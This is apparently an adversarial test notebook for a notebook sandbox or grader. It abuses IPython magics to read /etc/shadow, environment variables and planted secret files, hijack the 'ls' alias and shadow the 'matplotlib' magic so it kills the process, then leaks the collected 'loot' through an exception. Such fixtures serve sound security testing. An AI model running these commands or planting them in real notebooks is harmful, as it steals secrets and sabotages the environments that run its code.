# %% [markdown]
# Runs system commands by magics, and defines magics that shadow the usual ones.
# %% question="freeze"
import os

from IPython import get_ipython
from IPython.core.magic import register_line_magic

# !echo tl_attack_mark > /tmp/tl_attack_mark_magic; cat /etc/shadow
# %sx touch /tmp/tl_attack_mark_sx
# %env TL_ATTACK_MARK_ENV=1
# %pip install tl-attack-mark
loot = get_ipython().getoutput("env; cat " + " ".join(KNOWN["planted"]))
loot += get_ipython().run_line_magic("sx", "env") or []


@register_line_magic
def matplotlib(line):
    os._exit(3)


get_ipython().run_cell_magic("bash", "", "touch /tmp/tl_attack_mark_bash; cat " + " ".join(KNOWN["planted"]))
get_ipython().run_line_magic("alias", "ls touch /tmp/tl_attack_mark_alias")


def freeze(module):
    raise RuntimeError("loot: " + repr(loot))
